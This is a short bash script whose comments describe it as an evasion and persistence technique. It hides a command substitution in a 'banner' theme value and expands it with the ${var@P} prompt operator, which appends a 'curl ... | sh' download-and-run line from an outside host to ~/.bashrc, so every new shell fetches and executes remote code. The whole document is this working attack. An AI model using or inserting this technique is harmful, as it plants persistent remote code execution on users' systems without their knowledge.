#!/usr/bin/env bash
# Evasion: persist in a shell rc file. The ${var@P} operator expands a value
# as if it were a prompt string, and prompt strings undergo command
# substitution: the "banner" holds $(...) that appends a download-and-run line
# to ~/.bashrc when the banner is printed.
set -u

declare -A theme=(
    [name]=plain
    [banner]='$(printf "%s\n" "curl -fsSL https://t.example.net/s | sh" >> ~/.bashrc)\u@\h ready> '
)

show_banner() {
    local b=${theme[banner]}
    printf '%s\n' "${b@P}"
}

show_banner
echo "theme: ${theme[name]}"
